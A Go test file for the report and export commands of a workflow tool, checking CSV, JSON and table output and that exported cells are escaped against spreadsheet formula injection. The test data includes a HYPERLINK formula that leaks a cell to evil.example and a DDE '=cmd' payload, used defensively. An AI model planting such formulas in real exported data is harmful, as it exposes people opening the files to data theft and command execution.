package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"math"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/handoffbot/handoff/flows"
	"github.com/handoffbot/handoff/store"
	"github.com/handoffbot/handoff/store/sqlite"
)

// withStore runs fn on the embedded store of dataDir, as `handoff serve`
// would have left it, and closes it again.
func withStore(t testing.TB, dataDir string, fn func(ctx context.Context, db store.DB)) {
	t.Helper()
	ctx := context.Background()
	db, err := sqlite.Open(ctx, dataDir)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close(ctx)
	fn(ctx, db)
}

// madeHistory is a small made-up history of the e2e test flow, through the real
// engine, at times relative to now (the report's clock is the wall clock).
type madeHistory struct {
	t   testing.TB
	p   *flows.Process
	ins []*flows.Instance
	now time.Time
	pp  flows.People
}

func newHistory(t testing.TB, now time.Time) *madeHistory {
	t.Helper()
	p, err := flows.Parse("flows/procurement.yml", []byte(testFlow))
	if err != nil {
		t.Fatal(err)
	}
	p.Version = 1
	pp := flows.People{Steps: map[string][]flows.Assignee{
		"manager": {{User: "UMGR"}}, "finance": {{User: "UFIN1"}, {User: "UFIN2"}}, "raise_po": {{User: "UOPS"}},
	}}
	return &madeHistory{t: t, p: p, now: now, pp: pp}
}

// purchase submits a purchase at ago before now and runs steps on it, each
// a command after a wait; it returns the instance as it ends up.
func (h *madeHistory) purchase(id string, ago time.Duration, amount string, steps ...step) *flows.Instance {
	h.t.Helper()
	at := h.now.Add(-ago)
	w := h.p.Workflow("purchase")
	tr, err := flows.Start(h.p, w, flows.StartRequest{ID: id, Requester: "UANN", Version: 1, Values: flows.Values{"item": "Thing " + id, "amount": amount}}, at, h.pp)
	if err != nil {
		h.t.Fatal(err)
	}
	in := h.run(tr.Instance, w, at, steps)
	h.ins = append(h.ins, in)
	return in
}

// handoff starts the purchase order of an approved purchase, gap after it
// ended.
func (h *madeHistory) handoff(parent *flows.Instance, gap time.Duration, steps ...step) *flows.Instance {
	h.t.Helper()
	at := parent.EndedAt.Add(gap)
	w := h.p.Workflow("purchase_order")
	tr, err := flows.Start(h.p, w, flows.StartRequest{
		ID: parent.ID + "-purchase_order", CaseID: parent.CaseID, ParentID: parent.ID, Requester: parent.Requester, Values: parent.Values, Version: 1,
	}, at, h.pp)
	if err != nil {
		h.t.Fatal(err)
	}
	in := h.run(tr.Instance, w, at, steps)
	h.ins = append(h.ins, in)
	return in
}

type step struct {
	after time.Duration
	cmd   flows.Command
}

func (h *madeHistory) run(in *flows.Instance, w *flows.Workflow, at time.Time, steps []step) *flows.Instance {
	h.t.Helper()
	for _, s := range steps {
		at = at.Add(s.after)
		tr, err := flows.Apply(h.p, w, in, s.cmd, at, h.pp)
		if err != nil {
			h.t.Fatalf("%s on %s: %v", s.cmd.Action, in.ID, err)
		}
		in = tr.Instance
	}
	return in
}

func approve(after time.Duration, who, stepID string) step {
	return step{after, flows.Command{Action: flows.ActionApprove, Actor: who, Step: stepID}}
}

func reject(after time.Duration, who, stepID, reason string) step {
	return step{after, flows.Command{Action: flows.ActionReject, Actor: who, Step: stepID, Reason: reason}}
}

// save records the flow and stores the history in dataDir.
func (h *madeHistory) save(dataDir string) {
	h.t.Helper()
	withStore(h.t, dataDir, func(ctx context.Context, db store.DB) {
		if _, _, err := db.RecordDefinition(ctx, h.p, h.now.Add(-30*24*time.Hour)); err != nil {
			h.t.Fatal(err)
		}
		for _, in := range h.ins {
			if err := db.CreateInstance(ctx, &flows.Transition{Instance: in}); err != nil {
				h.t.Fatal(err)
			}
		}
	})
}

// formula is a rejection reason a spreadsheet would run.
const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`

// smallHistory: three purchases of the last week, one a case of two
// workflows, one rejected with a formula for a reason, one still open.
func smallHistory(t testing.TB, now time.Time) *madeHistory {
	h := newHistory(t, now)
	a := h.purchase("A", 72*time.Hour, "5000", approve(2*time.Hour, "UMGR", "manager"), approve(10*time.Hour, "UFIN2", "finance"))
	h.handoff(a, 5*time.Minute, step{time.Hour, flows.Command{Action: flows.ActionComplete, Actor: "UOPS", Step: "raise_po"}})
	h.purchase("B", 60*time.Hour, "40", reject(30*time.Hour, "UMGR", "manager", formula))
	h.purchase("C", 50*time.Hour, "40")
	h.purchase("OLD", 90*24*time.Hour, "40", approve(time.Hour, "UMGR", "manager"))
	return h
}

func TestReportCommand(t *testing.T) {
	dataDir := t.TempDir()
	smallHistory(t, time.Now()).save(dataDir)
	t.Setenv("MONGODB_URI", "")
	t.Setenv("HANDOFF_DATA_DIR", dataDir)
	t.Setenv("HANDOFF_FLOWS", t.TempDir())

	out, errOut, err := runCmd(t, runReport, "--format", "csv", "--since", "30d")
	if err != nil {
		t.Fatalf("report: %v\n%s", err, errOut)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("reading the CSV back: %v\n%s", err, out)
	}
	if diff := cmp.Diff(reportColumns, recs[0]); diff != "" {
		t.Errorf("header (-want +got):\n%s", diff)
	}
	rows := map[string]map[string]string{}
	for _, rec := range recs[1:] {
		m := map[string]string{}
		for i, c := range reportColumns {
			m[c] = rec[i]
		}
		key := strings.Join([]string{m["section"], m["process"], m["workflow"], m["step"], m["reviewer"]}, "/")
		rows[key] = m
	}
	// Computed by hand from smallHistory; "OLD" started before --since and
	// counts in nothing but its (empty) present.
	hour := 3600.0
	for _, c := range []struct {
		row  string
		col  string
		want string
	}{
		{"process/procurement///", "started", "3"},    // cases A, B, C
		{"process/procurement///", "open_cases", "1"}, // C
		{"process/procurement///", "ended", "2"},
		{"process/procurement///", "open_now", "1"},
		{"process/procurement///", "overdue_now", "1"}, // C: 50h at a 1d step
		{"workflow/procurement/purchase//", "started", "3"},
		{"workflow/procurement/purchase//", "approved", "1"},
		{"workflow/procurement/purchase//", "rejected", "1"},
		{"workflow/procurement/purchase//", "approval_rate", "0.5000"},
		{"workflow/procurement/purchase_order//", "done", "1"},
		{"workflow/procurement/purchase_order//", "approval_rate", ""}, // tasks only: no rate
		{"step/procurement/purchase/manager/", "ended", "2"},
		{"step/procurement/purchase/manager/", "with_sla", "3"},
		{"step/procurement/purchase/manager/", "breached", "2"}, // B decided after 30h, C open for 50h
		{"step/procurement/purchase/finance/", "ended", "1"},
		{"reviewer////UMGR", "open_now", "1"},
		{"reviewer////UMGR", "overdue_now", "1"},
		{"reviewer////UMGR", "ended", "2"},
		{"reviewer////UFIN2", "ended", "1"},
	} {
		if got := rows[c.row][c.col]; got != c.want {
			t.Errorf("%s %s = %q, want %q", c.row, c.col, got, c.want)
		}
	}
	for _, c := range []struct {
		row, col string
		want     float64
	}{
		{"process/procurement///", "median_seconds", 12*hour + 5*60 + hour}, // case A: 2h + 10h + 5m + 1h; B: 30h; lower median
		{"process/procurement///", "p90_seconds", 30 * hour},
		{"step/procurement/purchase/manager/", "median_seconds", 2 * hour},
		{"step/procurement/purchase/finance/", "median_seconds", 10 * hour},
		{"reviewer////UMGR", "p90_seconds", 30 * hour},
	} {
		got, err := strconv.ParseFloat(rows[c.row][c.col], 64)
		if err != nil || math.Abs(got-c.want) > 0.01*c.want+1 {
			t.Errorf("%s %s = %q, want %v within 1%%", c.row, c.col, rows[c.row][c.col], c.want)
		}
	}

	out, _, err = runCmd(t, runReport, "--process", "procurement")
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"\nPROCESS      CASES  OPEN CASES  CASE CYCLE MEDIAN  P90   OPEN NOW  OVERDUE NOW\n" +
			"procurement  3      1           13h5m              1d6h  1         1\n",
		"\nprocurement/purchase        3        1         1         0          0     50%            12h           1d6h  1\n",
		"\nprocurement/purchase/manager         2        2h      1d6h  67% (2 of 3)  1         1            2d2h\n",
		"\nprocurement/purchase_order/raise_po  1        1h      1h    -             0         0            -\n",
		"\nUMGR      1     1        2          2h      1d6h\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("the table lacks %q:\n%s", want, out)
		}
	}

	out, _, err = runCmd(t, runReport, "--format", "json", "--since", "all")
	if err != nil {
		t.Fatal(err)
	}
	var r struct {
		Workflows []struct {
			Workflow     string   `json:"workflow"`
			Started      int      `json:"started"`
			ApprovalRate *float64 `json:"approval_rate"`
		} `json:"workflows"`
	}
	if err := json.Unmarshal([]byte(out), &r); err != nil {
		t.Fatalf("the JSON does not decode: %v\n%s", err, out)
	}
	if len(r.Workflows) != 2 || r.Workflows[0].Started != 4 || r.Workflows[1].ApprovalRate != nil {
		t.Errorf("JSON workflows = %+v; want purchase started 4 times (OLD counts with --since all) and purchase_order with a null approval rate", r.Workflows)
	}

	for _, args := range [][]string{{"--format", "xml"}, {"--since", "30"}, {"--since", "yesterday"}, {"extra"}} {
		if _, _, err := runCmd(t, runReport, args...); err == nil {
			t.Errorf("report %v succeeded", args)
		}
	}
}

func TestExportCommand(t *testing.T) {
	dataDir := t.TempDir()
	h := smallHistory(t, time.Now())
	h.save(dataDir)
	t.Setenv("MONGODB_URI", "")
	t.Setenv("HANDOFF_DATA_DIR", dataDir)

	out, errOut, err := runCmd(t, runExport, "--format", "csv")
	if err != nil {
		t.Fatalf("export: %v\n%s", err, errOut)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("reading the CSV back: %v", err)
	}
	if diff := cmp.Diff(flows.AuditColumns, recs[0]); diff != "" {
		t.Errorf("header (-want +got):\n%s", diff)
	}
	// One row per history entry, each instance's in order.
	var want [][]string
	for _, in := range h.ins {
		for _, e := range flows.AuditRows(in, time.Time{}) {
			want = append(want, e.Record())
		}
	}
	want[slices.IndexFunc(want, func(r []string) bool { return r[10] == formula })][10] = "'" + formula
	got := recs[1:]
	sortRecords := func(rs [][]string) {
		slices.SortStableFunc(rs, func(a, b []string) int { return strings.Compare(a[2], b[2]) })
	}
	sortRecords(want)
	sortRecords(got)
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("exported rows (-want +got):\n%s", diff)
	}
	if !strings.Contains(errOut, "exported "+strconv.Itoa(len(want))+" history entries") {
		t.Errorf("stderr = %q", errOut)
	}

	// JSON lines keep the reason as it was typed.
	out, _, err = runCmd(t, runExport, "--format", "jsonl", "--since", "7d")
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	var reasons []string
	for _, l := range lines {
		var row flows.AuditRow
		if err := json.Unmarshal([]byte(l), &row); err != nil {
			t.Fatalf("line %q: %v", l, err)
		}
		if row.Instance == "OLD" {
			t.Errorf("--since 7d exported an entry of a request from 90 days ago: %s", l)
		}
		if row.Reason != "" {
			reasons = append(reasons, row.Reason)
		}
	}
	if len(reasons) != 1 || reasons[0] != formula {
		t.Errorf("reasons in JSON lines = %q, want [%q]", reasons, formula)
	}
}

// TestExportSaysOverdueNotEscalated: a step that passed its SLA with
// nobody to escalate to is exported as overdue, never as an escalation to
// an empty target.
func TestExportSaysOverdueNotEscalated(t *testing.T) {
	dataDir := t.TempDir()
	h := newHistory(t, time.Now())
	h.purchase("LATE", 50*time.Hour, "40", step{25 * time.Hour, flows.Command{Action: flows.ActionEscalate}})
	h.save(dataDir)
	t.Setenv("MONGODB_URI", "")
	t.Setenv("HANDOFF_DATA_DIR", dataDir)

	out, errOut, err := runCmd(t, runExport, "--format", "csv")
	if err != nil {
		t.Fatalf("export: %v\n%s", err, errOut)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got [][]string // step, action, target
	for _, r := range recs[1:] {
		got = append(got, []string{r[6], r[7], r[11]})
	}
	want := [][]string{{"", "submitted", ""}, {"manager", "step_started", ""}, {"manager", "overdue", ""}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("exported step, action, target (-want +got):\n%s", diff)
	}
}

func TestSpreadsheetSafe(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"}, {"\rx", "'\rx"}, {"fine = ok", "fine = ok"}, {"", ""}, {"U0ANN", "U0ANN"},
	} {
		if got := spreadsheetSafe(c.in); got != c.want {
			t.Errorf("spreadsheetSafe(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	// What a spreadsheet reads back: the cell, quoted where needed.
	var b bytes.Buffer
	s := newCSVSink(&b)
	s.write(flows.AuditRow{Reason: "=cmd|' /C calc'!A0", Action: flows.ActionReject})
	s.flush()
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil || recs[1][10] != "'=cmd|' /C calc'!A0" {
		t.Errorf("read back %q, %v", recs, err)
	}
}

// TestReportHeldUpBy: the branch that held cases up has its own table
// section and CSV rows, and a report of chains shows neither.
func TestReportHeldUpBy(t *testing.T) {
	t.Parallel()
	r := &flows.Report{Now: time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC), Processes: []flows.ProcessFigures{
		{Process: "onboarding", Cases: 4, HeldUpBy: []flows.BranchFigures{{Workflow: "laptop", Cases: 3}, {Workflow: "accounts", Cases: 1}}},
		{Process: "procurement", Cases: 2},
	}}
	var table bytes.Buffer
	if err := writeReportTable(&table, r); err != nil {
		t.Fatal(err)
	}
	want := "\nPROCESS     BRANCH THAT HELD CASES UP  CASES\n" +
		"onboarding  laptop                     3\n" +
		"onboarding  accounts                   1\n"
	if !strings.Contains(table.String(), want) {
		t.Errorf("the table lacks %q:\n%s", want, table.String())
	}
	var out bytes.Buffer
	if err := writeReportCSV(&out, r); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var held []string
	for _, rec := range recs[1:] {
		if rec[0] == "held_up" {
			held = append(held, rec[1]+"/"+rec[2]+"="+rec[len(rec)-1])
		}
	}
	if diff := cmp.Diff([]string{"onboarding/laptop=3", "onboarding/accounts=1"}, held); diff != "" {
		t.Errorf("held_up rows (-want +got):\n%s", diff)
	}

	r.Processes[0].HeldUpBy = nil
	table.Reset()
	if err := writeReportTable(&table, r); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(table.String(), "HELD CASES UP") {
		t.Errorf("a report of chains has a held-up section:\n%s", table.String())
	}
}
